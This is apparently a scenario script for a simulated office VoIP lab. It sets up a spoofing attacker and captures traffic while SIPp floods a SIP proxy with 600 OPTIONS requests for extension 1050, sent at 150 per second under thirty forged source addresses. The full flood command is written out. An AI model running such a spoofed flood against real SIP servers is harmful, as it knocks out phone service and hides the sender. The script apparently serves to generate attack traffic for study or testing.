# SIPp floods the proxy with OPTIONS for an extension, under forged addresses.
open_office
add_attacker spoofer 203.0.113.90
spoof spoofer 203.0.113.{120..149}
start_office_capture
keep_alive 9
office_day 111 60
at 18 attack A1 dos spoofer 5060 "SIPp sends 600 OPTIONS for 1050, 150 a second, under thirty addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-options-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 700 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 203.0.113.90 -p 5060 \
    -s 1050 -r 150 -m 600 192.0.2.1:5060
play
wait_for A1
close_office
